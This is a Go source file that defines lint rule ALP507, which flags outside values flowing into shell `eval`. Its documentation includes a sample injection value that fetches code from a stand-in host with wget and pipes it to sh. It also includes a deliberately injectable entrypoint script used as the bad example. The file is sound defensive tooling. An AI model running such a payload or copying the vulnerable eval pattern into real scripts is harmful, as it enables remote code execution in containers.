package rules

import (
	"github.com/crampon-lint/crampon/analysis"
	"github.com/crampon-lint/crampon/analysis/taint"
)

var _ = register(&analysis.Rule{
	ID: "ALP507", Name: "eval", Since: "0.1.0",
	Summary:    "a value from outside in the text of eval",
	Severity:   analysis.Warning,
	Confidence: analysis.Medium,
	Aliases:    []string{"SC2294"},
	CWE:        []int{95},
	Doc: `## What it flags

A value from outside (an argument, a variable of the container, a build argument, a line that was read, a request, a lease, a download, a file's name) when it becomes a part of what ` + "`eval`" + ` runs: directly, or through assignments, loops, functions, files and other scripts. It is an error when the value comes by network.

It is silent where the value is checked by an allow-list, a number or a list of words, or in a way that is not understood; where the text is constant and eval expands the variable itself; and for output of ` + "`getopt`, `ssh-agent`" + ` and their like. A variable whose name says that it is a command (` + "`*_CMD`, `*_HOOK`" + `) is information only. So is a variable that a script of which no Dockerfile is known reads without a default, unless the script by its name or place is a container's entry point: it may come from a script that sources this one.

## Why

eval reads the value as shell code. ` + "`64; wget -qO- evil.example | sh`" + ` in a number's place is run with the rights of the script, which in a container is often root. Quotes inside the text do not help: the value may close them. Run on BusyBox 1.35 and on 1.37 as Alpine builds it.

~~~console
$ MAX_FILES='64; echo "taken over"' sh bad/entrypoint.sh echo started
taken over
started
$ MAX_FILES='64; echo "taken over"' sh good/entrypoint.sh echo started
...
started
~~~

## What to do

Leave eval out: ` + "`ulimit -n \"$MAX_FILES\"`" + `. Where eval is needed, let it expand the value itself (` + "`eval \"$name=\\$value\"`" + `) and let only names through (` + "`case $name in *[!A-Za-z0-9_]*) exit 1;; esac`" + `).
`,
	Bad: `-- Dockerfile --
FROM alpine:3.24
COPY --chmod=755 entrypoint.sh /
USER nobody
ENTRYPOINT ["/entrypoint.sh"]
-- entrypoint.sh --
#!/bin/sh
eval "ulimit -n $MAX_FILES"
exec "$@"
`,
	Good: `-- Dockerfile --
FROM alpine:3.24
COPY --chmod=755 entrypoint.sh /
USER nobody
ENTRYPOINT ["/entrypoint.sh"]
-- entrypoint.sh --
#!/bin/sh
ulimit -n "$MAX_FILES"
exec "$@"
`,
	Run: injected("keep the value out of the text, or let only the characters of a name through",
		taint.Eval),
})
